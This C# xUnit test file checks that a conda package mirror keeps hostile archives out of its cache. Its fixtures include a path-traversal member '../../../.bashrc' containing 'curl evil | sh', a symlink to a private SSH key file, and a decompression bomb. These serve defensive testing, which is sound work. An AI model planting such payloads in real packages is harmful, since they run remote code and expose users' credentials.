using System.Security.Cryptography;
using CondaMirror.Core.Archives;
using CondaMirror.Core.Downloads;
using CondaMirror.Core.Errors;
using CondaMirror.TestKit;
using CondaMirror.TestKit.Channels;
using Xunit;

namespace CondaMirror.Tests.Downloads;

/// <summary>Packages whose bytes match the lock but whose members are hostile never enter the package cache.</summary>
public class HostileDownloadTests
{
    private static DownloadRequest Serve(DownloadFixture f, string fileName, string indexJson, params RawTarMember[] payload)
    {
        var path = RawPackageWriter.Write(Path.Combine(f.ChannelDir, "noarch", fileName), indexJson, payload);
        var bytes = File.ReadAllBytes(path);
        return new DownloadRequest(f.Server.UrlFor("noarch/" + fileName), fileName, "noarch",
            Convert.ToHexString(SHA256.HashData(bytes)).ToLowerInvariant(), null, bytes.Length);
    }

    // The fixture's options skip the member check (its other tests serve random bytes); these turn it back on.
    private static DownloadOptions Checked(DownloadFixture f, PackageValidationOptions? validation = null) => new()
    {
        CacheRoot = f.CacheRoot,
        RetryCount = 0,
        AttemptTimeout = TimeSpan.FromSeconds(10),
        ProgressInterval = TimeSpan.FromMinutes(1),
        Validation = validation ?? new PackageValidationOptions(),
    };

    [SkippableTheory]
    [InlineData("evil-1.0-0.conda")]
    [InlineData("evil-1.0-0.tar.bz2")]
    public async Task A_package_with_a_dotdot_member_is_not_cached(string fileName)
    {
        await using var f = new DownloadFixture();
        var request = Serve(f, fileName, RawPackageWriter.IndexJson("evil", "1.0", "0", "noarch"),
            RawTarMember.File("site-packages/ok.py", "pass"), RawTarMember.File("../../../.bashrc", "curl evil | sh"));

        var e = await Assert.ThrowsAsync<CondaMirrorException>(() => f.RunAsync(Checked(f), request));
        Assert.Equal(ErrorCodes.ArchiveUnsafeMemberPath, e.Code);
        Assert.Contains("noarch/" + fileName, e.File);
        Assert.Equal(0, f.CachedFileCount());
        f.AssertCacheClean();
        Assert.False(new PackageCache(f.CacheRoot).TryGetVerified(request, out _));
    }

    [SkippableFact]
    public async Task A_package_with_an_absolute_symlink_in_its_pkg_part_is_not_cached()
    {
        await using var f = new DownloadFixture();
        var request = Serve(f, "evil-1.0-0.conda", RawPackageWriter.IndexJson("evil", "1.0", "0", "noarch"),
            RawTarMember.Symlink("etc/ssl/cert.pem", "/home/user/.ssh/id_rsa"));
        var e = await Assert.ThrowsAsync<CondaMirrorException>(() => f.RunAsync(Checked(f), request));
        Assert.Equal(ErrorCodes.ArchiveLinkEscapes, e.Code);
        Assert.Equal(0, f.CachedFileCount());
        f.AssertCacheClean();
    }

    [SkippableFact]
    public async Task A_bomb_is_refused_before_it_is_cached()
    {
        await using var f = new DownloadFixture();
        var path = RawPackageWriter.WriteZstdBomb(Path.Combine(f.ChannelDir, "noarch", "bomb-1.0-0.conda"), RawPackageWriter.IndexJson("bomb", "1.0", "0", "noarch"), 64L << 20);
        var bytes = File.ReadAllBytes(path);
        var request = new DownloadRequest(f.Server.UrlFor("noarch/bomb-1.0-0.conda"), "bomb-1.0-0.conda", "noarch",
            Convert.ToHexString(SHA256.HashData(bytes)).ToLowerInvariant(), null, bytes.Length);
        var e = await Assert.ThrowsAsync<CondaMirrorException>(() =>
            f.RunAsync(Checked(f, new PackageValidationOptions { MaxUnpackedBytes = 16L << 20 }), request));
        Assert.Equal(ErrorCodes.ArchiveUnpackedTooLarge, e.Code);
        Assert.Equal(0, f.CachedFileCount());
        f.AssertCacheClean();
    }

    [SkippableFact]
    public async Task A_good_package_with_relative_symlinks_is_cached_once_and_then_served_from_the_cache()
    {
        await using var f = new DownloadFixture();
        var request = Serve(f, "good-1.0-0.conda", RawPackageWriter.IndexJson("good", "1.0", "0", "noarch"),
            RawTarMember.File("lib/libgood.so.1", "elf"), RawTarMember.Symlink("lib/libgood.so", "libgood.so.1"));
        var first = await f.RunAsync(Checked(f), request);
        Assert.Equal(1, first.Downloaded);
        var second = await f.RunAsync(Checked(f), request);
        Assert.Equal(1, second.FromCache);
        Assert.Equal(1, f.CachedFileCount());
        f.AssertCacheClean();
    }
}
